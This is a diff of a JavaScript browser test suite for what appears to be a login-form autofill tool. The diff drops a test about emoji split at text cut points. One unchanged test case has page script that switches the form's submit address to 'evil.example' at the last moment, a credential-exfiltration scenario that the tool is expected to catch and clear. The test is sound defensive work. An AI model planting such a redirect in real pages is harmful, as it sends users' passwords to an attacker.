@@ -20,8 +20,6 @@ const take = (event) => { state[event.target.name] = event.target.value; };
 const on = (types, listener) => { for (const type of types.split(" ")) form.addEventListener(type, listener, true); };
 form.addEventListener("submit", (event) => { event.preventDefault(); window.sent = { ...state }; });
 ${script}</script>`;
-/** Letters that are cut in two wherever a text is cut, at 80, 120 or 600. */
-const CUT = `${"x".repeat(79)}😀${"x".repeat(38)}😀${"x".repeat(478)}😀`;
 const BOTH = { username: "sam", password: "Correct-1" };
 
 /** @typedef {{html: string, outcome?: string, sent?: Record<string, string> | null, values?: Record<string, string>, left?: string[]}} Case */
@@ -37,7 +35,6 @@ const CASES = {
   "a page that goes to another address meanwhile": { html: page(TWO, `on("input", (event) => { if (event.target === word && word.value) requestAnimationFrame(() => history.pushState(null, "", "/elsewhere")); });`), outcome: "moved", sent: null, left: ["", ""] },
   "a form whose address changes in the last moment": { html: page(TWO, `form.addEventListener("submit", () => { form.action = "https://evil.example/"; });`), outcome: "cleared", left: ["", ""] },
 
-  "letters that are cut in two": { html: page(`<p>${CUT}</p>${TWO.replace("<input", `<input id="${CUT}" placeholder="${CUT}"`).replace("Password", CUT)}`, `on("input", take);`).replace("Sign in<", `${CUT}<`) },
   "input, as Vue, Svelte and Angular do": { html: page(TWO, `on("input", take);`) },
   "input, but not while text is composed": { html: page(TWO, `let composing = false; on("compositionstart", () => { composing = true; }); on("compositionend", () => { composing = false; }); on("input", (event) => { if (!composing && !event.isComposing) take(event); });`) },
   "change, as Knockout does, and Vue where it is lazy": { html: page(TWO, `on("change", take);`) },
@@ -77,8 +74,6 @@ for (const browser of /** @type {("chromium" | "firefox")[]} */ ((process.env.MY
           const { outcome = "submitted", values = BOTH, sent = values, left } = /** @type {Case} */ (CASES[name]);
           await tab.goto(`${origin}/${number}`);
           const seen = /** @type {any} */ (await tab.evaluate(form, { probe: {} }));
-          // JSON that holds half a letter can't be read.
-          assert.doesNotMatch(JSON.stringify(seen), /\\ud[89a-f]/, `${name}: half a letter`);
           const at = (/** @type {(control: any) => boolean} */ fits) => {
             const control = seen.controls.find(fits);
             return control && { index: control.index, fingerprint: control.fingerprint };
